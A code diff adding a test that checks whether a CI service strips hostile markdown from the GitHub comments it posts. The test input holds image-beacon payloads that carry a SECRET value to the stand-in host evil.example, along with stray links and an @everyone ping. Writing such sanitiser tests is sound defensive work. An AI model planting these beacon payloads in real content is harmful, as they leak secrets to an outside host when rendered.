@@ -222,3 +222,19 @@ test("a repository's name that is none never becomes a path", async () => {
   await b.deliver("ci", nasty, signed(nasty));
   expect(b.inlet.launches[0]?.launch.addresses).toEqual([]);
 });
+
+test("a comment loads nothing, pings nobody, and links to GitHub and the console alone", async () => {
+  const b = await launched({ github: { status: false, comment: true } });
+  const text = [
+    "![ok](https://evil.example/p.png?d=SECRET) ![ok][ref] <img src=https://evil.example/p.png>",
+    "[ref]: https://evil.example/p.png",
+    "[click](https://evil.example/) [click](//evil.example) [click](</x>) www.evil.example @everyone <!-- x -->",
+    `[run](http://${host}/o/r/1) and https://belay.example.com/runs/run_1`,
+  ].join("\n");
+  await postAs(b, "complete", delivery(b.address, { body: message(text) }));
+  const body = comments.find((comment) => comment.body.startsWith("<!-- belay:run_1 -->"))?.body ?? "";
+  const words = body.slice("<!-- belay:run_1 -->".length);
+  expect(words).not.toMatch(/!\[|<[a-z!]|https:\/\/evil|\]\((?:\/|<)|www\.evil|@everyone/);
+  expect(words).toContain(`[run](http://${host}/o/r/1)`);
+  expect(words).toContain("https://belay.example.com/runs/run_1");
+});
